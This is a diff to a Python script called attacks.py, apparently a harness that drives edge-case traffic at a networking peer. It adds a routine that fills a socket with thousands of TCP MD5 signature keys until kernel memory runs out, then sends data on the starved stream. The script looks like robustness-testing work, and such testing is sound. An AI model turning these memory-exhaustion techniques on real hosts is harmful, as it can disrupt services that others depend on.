@@ -3,7 +3,7 @@
 
 usage: attacks.py NAME PEER ARG...   as root; it becomes an unprivileged user before it sends"""
 
-import array, ctypes, os, socket, sys, threading, time
+import array, ctypes, os, socket, struct, sys, threading, time
 
 libc = ctypes.CDLL(None, use_errno=True)
 peer = sys.argv[2]
@@ -172,10 +172,11 @@ def stream_from(source_port):
 def hand(scope, mac, source):
     def run(got):
         use(zip(got, sends(mac, source)))
-        got[-1].send(b"x", socket.MSG_MORE)
-        os._exit(0)  # which closes it, and so sends that
+        got[-2].send(b"x", socket.MSG_MORE)
+        without_memory_for_keys(got[-1]).send(b"x")
+        os._exit(0)  # which closes them, and so sends that
 
-    pass_to(scope, [*made_outside(5023), stream_from(5028)], run)
+    pass_to(scope, [*made_outside(5023), stream_from(5028), stream_from(5030)], run)
 
 
 def keep(scope):
@@ -215,6 +216,16 @@ def without_memory():
             s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, address + (1).to_bytes(4, "little"))
     except OSError:
         return s
+
+
+def without_memory_for_keys(stream):
+    """The same of a stream, by keys of other peers (RFC 2385)."""
+    try:
+        for n in range(1 << 16):
+            other = struct.pack("=HH4s120x", socket.AF_INET, 0, bytes([10, 9, n >> 8, n & 0xFF]))
+            stream.setsockopt(socket.IPPROTO_TCP, 14, other + struct.pack("=BBHi80s", 0, 0, 1, 0, b"k"))  # TCP_MD5SIG
+    except OSError:
+        return stream
 
 
 def bring(scope, mac, source):
